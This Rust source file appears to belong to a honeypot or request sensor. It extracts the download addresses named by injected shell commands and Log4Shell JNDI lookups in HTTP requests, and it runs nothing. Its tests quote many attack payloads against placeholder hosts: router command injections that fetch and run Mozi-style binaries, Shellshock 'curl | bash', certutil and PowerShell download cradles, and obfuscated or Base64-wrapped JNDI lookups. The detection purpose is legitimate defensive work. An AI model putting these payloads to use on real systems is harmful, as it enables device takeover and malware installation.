//! Addresses that commands inside a request would fetch from: what is injected into a query, a header or a body names what the visitor wants
//! run here. Only sure ones: the name of a tool, its arguments, an address; or a lookup of log4j's. Nothing is run.

use std::borrow::Cow;

use data_encoding::BASE64;

use super::super::shell::named_addresses;
use super::Request;
use super::ask::decoded;

/// Bytes of a body, and of what is encoded inside a text, that are looked at.
const LOOKED_AT: usize = 64 * 1024;
/// Addresses that one request may name, and words that one command may have.
const MAX_ADDRESSES: usize = 16;
const MAX_WORDS: usize = 32;
/// Bytes of a lookup, and of a line of Windows, that are looked at.
const MAX_LINE: usize = 2 * 1024;
/// Lookups inside a lookup that are resolved.
const MAX_DEPTH: usize = 16;
/// How often a text may have been percent-encoded.
const MAX_ENCODED: usize = 2;

/// Tools that a shell starts, and what fetches in Windows: of those the first address in full is meant.
const TOOLS: [&str; 4] = ["wget", "curl", "tftp", "ftpget"];
const OTHERS: [(&str, &str); 6] = [
    ("DownloadString(", "powershell"),
    ("DownloadFile(", "powershell"),
    ("Invoke-WebRequest ", "powershell"),
    ("iwr ", "powershell"),
    ("certutil", "certutil"),
    ("bitsadmin", "bitsadmin"),
];
/// Schemes of what can be fetched.
const SCHEMES: [&str; 4] = ["http", "https", "ftp", "tftp"];
/// What exploits of log4j write before a command in Base64.
const ENCODED: &str = "/Base64/";

/// What a request names: tool and address of each, each once, in their order.
pub(super) fn addresses(request: &Request) -> Vec<(&'static str, String)> {
    let head = &request.head;
    let body = request.body.bytes();
    let body = String::from_utf8_lossy(body.get(..LOOKED_AT).unwrap_or(body));
    let texts = std::iter::once(head.target.as_str()).chain(head.headers.iter().map(|(_, value)| value.as_str()));
    let mut found = Vec::new();
    for text in texts.chain([body.as_ref()]) {
        look(text, &mut found);
    }
    found
}

/// What bytes name that are no request: bots that write blanks into a path.
pub(super) fn addresses_in(bytes: &[u8]) -> Vec<(&'static str, String)> {
    let mut found = Vec::new();
    look(&String::from_utf8_lossy(bytes.get(..LOOKED_AT).unwrap_or(bytes)), &mut found);
    found
}

/// Finds what a text names, and what is encoded in it.
fn look(text: &str, found: &mut Vec<(&'static str, String)>) {
    let mut text = plain(text);
    if let Some((_, after)) = text.split_once(ENCODED) {
        let end = after.find(|c: char| !c.is_ascii_alphanumeric() && !"+/=".contains(c)).unwrap_or(after.len());
        let inner = after.get(..end).and_then(|encoded| BASE64.decode(encoded.as_bytes()).ok());
        if let Some(inner) = inner {
            text = format!("{text}\n{}", String::from_utf8_lossy(&inner)).into();
        }
    }
    if text.contains("${") {
        text = resolved(&text).into();
        lookups(&text, found);
    }
    for tool in TOOLS {
        for (at, _) in text.match_indices(tool) {
            let before = text.get(..at).and_then(|before| before.chars().next_back());
            if before.is_some_and(|c| c.is_alphanumeric() || "-_.".contains(c)) {
                continue;
            }
            let words = words(text.get(at..).unwrap_or_default(), tool.len());
            named_addresses(&words).into_iter().for_each(|address| add(found, tool, address));
        }
    }
    for (name, tool) in OTHERS {
        for (at, _) in text.match_indices(name) {
            let line = beginning(text.get(at + name.len()..).unwrap_or_default()).lines().next().unwrap_or_default();
            let mut words = line.split(|c: char| c.is_whitespace() || "'\"();,<>|`+".contains(c));
            if let Some(address) = words.find(|word| word.contains("://")) {
                add(found, tool, address.to_owned());
            }
        }
    }
}

/// What is looked at of a text whose end is not known.
fn beginning(text: &str) -> &str {
    text.get(..text.floor_char_boundary(MAX_LINE)).unwrap_or_default()
}

fn add(found: &mut Vec<(&'static str, String)>, tool: &'static str, address: String) {
    let is_new = !found.iter().any(|(_, known)| *known == address);
    if is_new && found.len() < MAX_ADDRESSES && (tool == JNDI || is_address(&address)) {
        found.push((tool, address));
    }
}

/// A text as the program reads it that it is injected into: percent-encoding and the backslashes of JSON undone, blanks for what shells
/// take for them.
fn plain(text: &str) -> Cow<'_, str> {
    let mut text = Cow::from(text);
    for _ in 0..MAX_ENCODED {
        if !text.contains('%') {
            break;
        }
        let Some(bytes) = decoded(&text) else { break };
        text = String::from_utf8_lossy(&bytes).into_owned().into();
    }
    for (written, meant) in [
        ("${IFS}", " "),
        ("$IFS$9", " "),
        ("$IFS", " "),
        ("\\/", "/"),
        ("\\\"", "\""),
        ("\\n", "\n"),
        ("&amp;", "&"),
        ("&quot;", "\""),
        ("&#39;", "'"),
    ] {
        if text.contains(written) {
            text = text.replace(written, meant).into();
        }
    }
    text
}

/// The words of the command at the beginning of a text, whose first is so many bytes long. What follows the first parts them: a blank,
/// the plus of a form, the comma of a brace expansion. A command ends where a shell ends it, or where a quote does that it stands in.
fn words(text: &str, first: usize) -> Vec<Vec<u8>> {
    let bytes = text.as_bytes();
    let (Some(name), Some(&blank)) = (bytes.get(..first), bytes.get(first)) else { return Vec::new() };
    if !b" \t+,".contains(&blank) {
        return Vec::new();
    }
    let mut words = vec![name.to_vec()];
    let (mut word, mut quote) = (Vec::new(), None);
    for &byte in bytes.get(first..).unwrap_or_default() {
        match byte {
            _ if quote == Some(byte) => quote = None,
            b'\'' | b'"' if quote.is_none() && word.is_empty() => quote = Some(byte),
            _ if byte == blank || b" \t".contains(&byte) => {
                if !word.is_empty() {
                    words.push(std::mem::take(&mut word));
                }
                if words.len() >= MAX_WORDS {
                    return words;
                }
            }
            b'&' if quote.is_some() => word.push(byte),
            b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b')' | b'}' | b'<' | b'>' | b'\'' | b'"' => break,
            _ => word.push(byte),
        }
    }
    if !word.is_empty() {
        words.push(word);
    }
    words
}

/// A scheme of what can be fetched, and a host: an address, or a name with a dot.
fn is_address(text: &str) -> bool {
    let Some((scheme, rest)) = text.split_once("://") else { return false };
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let host = authority.rsplit('@').next().unwrap_or_default();
    let name = host.split(':').next().unwrap_or_default();
    let is_name = |name: &str| {
        let top = name.rsplit('.').next().unwrap_or_default();
        let is_top = top.len() > 1 && top.bytes().all(|byte| byte.is_ascii_alphabetic());
        is_top && name.len() > top.len() + 1 && name.bytes().all(|b| b.is_ascii_alphanumeric() || b".-_".contains(&b))
    };
    SCHEMES.iter().any(|known| scheme.eq_ignore_ascii_case(known))
        && (name.parse::<std::net::Ipv4Addr>().is_ok() || is_name(name) || host.starts_with('['))
}

/// The tool of log4j's lookups.
const JNDI: &str = "jndi";

/// The addresses of a text's lookups, `${jndi:ldap://HOST/NAME}` (CVE-2021-44228).
fn lookups(text: &str, found: &mut Vec<(&'static str, String)>) {
    for (at, _) in text.match_indices("${") {
        let inner = beginning(text.get(at + 2..).unwrap_or_default());
        let Some((kind, rest)) = inner.split_at_checked(JNDI.len() + 1) else { continue };
        let end = rest.find(|c: char| c == '}' || c.is_whitespace()).unwrap_or(rest.len());
        let address = rest.get(..end).unwrap_or_default();
        let has_host = address.split_once("://").is_some_and(|(scheme, host)| !scheme.is_empty() && !host.is_empty());
        if kind.eq_ignore_ascii_case("jndi:") && has_host {
            add(found, JNDI, address.to_owned());
        }
    }
}

/// Lookups that hide others, as `${lower:j}` and `${::-j}` do, replaced by what they give, the innermost first.
fn resolved(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut open: Vec<usize> = Vec::new();
    let mut rest = text;
    while let Some(at) = rest.find(['$', '}']) {
        let (before, after) = rest.split_at(at);
        out.push_str(before);
        if after.starts_with("${") && open.len() < MAX_DEPTH {
            open.push(out.len());
            out.push_str("${");
            rest = after.get(2..).unwrap_or_default();
            continue;
        }
        let start = if after.starts_with('}') { open.pop() } else { None };
        let value = start.and_then(|start| given(out.get(start + 2..)?)).map(str::to_owned);
        match start.zip(value) {
            Some((start, value)) => {
                out.truncate(start);
                out.push_str(&value);
            }
            None => out.push_str(after.get(..1).unwrap_or_default()),
        }
        rest = after.get(1..).unwrap_or_default();
    }
    out.push_str(rest);
    out
}

/// What a lookup gives of itself: its default, or its text in another case.
fn given(lookup: &str) -> Option<&str> {
    let (kind, value) = lookup.split_once(':')?;
    match kind.to_ascii_lowercase().as_str() {
        "lower" | "upper" => Some(value),
        "jndi" => None,
        _ => lookup.split_once(":-").map(|(_, value)| value),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn named(text: &str) -> Vec<(&'static str, String)> {
        let mut found = Vec::new();
        look(text, &mut found);
        found
    }

    #[test]
    fn the_injections_that_sensors_see_say_what_they_would_fetch() {
        for (text, tool, address) in [
            (
                "/setup.cgi?todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.9/Mozi.m+-O+/tmp/n;sh+n&curpath=/",
                "wget",
                "http://192.0.2.9/Mozi.m",
            ),
            ("/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9:81/jaws;sh+/tmp/jaws", "wget", "http://192.0.2.9:81/jaws"),
            (
                "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(rm%20-rf%20%2A%3B%20wget%20http%3A%2F%2F192.0.2.9%2Ft%3B%20sh%20t)",
                "wget",
                "http://192.0.2.9/t",
            ),
            (
                "XWebPageName=diag&dest_host=`busybox+wget+http://192.0.2.9/b+-O+/tmp/gpon80;sh+/tmp/gpon80`;&ipv=0",
                "wget",
                "http://192.0.2.9/b",
            ),
            ("() { :; }; /bin/bash -c 'curl -s http://host.example/x | bash'", "curl", "http://host.example/x"),
            (
                "<NewStatusURL>$(/bin/busybox wget -g 192.0.2.9 -l /tmp/.x -r /mips; sh /tmp/.x)</NewStatusURL>",
                "wget",
                "http://192.0.2.9/mips",
            ),
            (
                "<NewInternalClient>`cd /tmp/; tftp -g -l a -r mips 192.0.2.9`</NewInternalClient>",
                "tftp",
                "tftp://192.0.2.9/mips",
            ),
            (
                "{\"command\":\"wget http:\\/\\/192.0.2.9\\/x -O- | sh\",\"see\":\"http://other.example/\"}",
                "wget",
                "http://192.0.2.9/x",
            ),
            ("cmd=wget${IFS}http://192.0.2.9/a${IFS}-O/tmp/a", "wget", "http://192.0.2.9/a"),
            ("{curl,-s,http://192.0.2.9/a}", "curl", "http://192.0.2.9/a"),
            ("<?php system(\"wget 'http://192.0.2.9/a?b&c' -O a\"); ?>", "wget", "http://192.0.2.9/a?b&c"),
            (
                "s=invokefunction&vars[1][]=certutil.exe+-urlcache+-split+-f+http://192.0.2.9/a.exe",
                "certutil",
                "http://192.0.2.9/a.exe",
            ),
            (
                "powershell -c IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.9/a.ps1')",
                "powershell",
                "http://192.0.2.9/a.ps1",
            ),
            (
                "t('${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//192.0.2.9:1389/a}')",
                "jndi",
                "ldap://192.0.2.9:1389/a",
            ),
            ("${${lower:${upper:jn}}${::-d}i:rmi://host.example/a}", "jndi", "rmi://host.example/a"),
        ] {
            assert_eq!(named(text), [(tool, address.to_owned())], "{text}");
        }
    }

    #[test]
    fn a_command_inside_a_lookup_is_read_as_well() {
        let command = BASE64.encode(b"(curl -s 192.0.2.9:81/x||wget -q -O- 192.0.2.9:81/y)|bash");
        let found = named(&format!("${{jndi:ldap://192.0.2.9:1389/Basic/Command/Base64/{command}}}"));
        let addresses: Vec<&str> = found.iter().map(|(_, address)| address.as_str()).collect();
        let lookup = format!("ldap://192.0.2.9:1389/Basic/Command/Base64/{command}");
        assert_eq!(addresses, [lookup.as_str(), "http://192.0.2.9:81/y", "http://192.0.2.9:81/x"]);
    }

    #[test]
    fn what_only_speaks_of_tools_and_addresses_names_none() {
        for text in [
            "curl/7.88.1",
            "Wget/1.21 (linux-gnu) http://example.com/",
            "/?u=http://example.com/curl",
            "how to use curl to fetch it",
            "wget $URL; curl ; tftp",
            "mywget http://192.0.2.9/x",
            "wget --help",
            "${jndi:x}${jndi",
            "${${${",
            "%zz wget",
        ] {
            assert_eq!(named(text), [], "{text}");
        }
    }

    #[test]
    fn one_request_names_so_many_and_lookups_end_somewhere() {
        let many: String = (0..100).map(|number| format!("wget 192.0.2.{number}/x;")).collect();
        assert_eq!(named(&many).len(), MAX_ADDRESSES);
        let deep = format!("{}x{}", "${lower:".repeat(4_000), "}".repeat(4_000));
        assert!(named(&deep).is_empty() && resolved(&deep).len() < deep.len());
    }
}
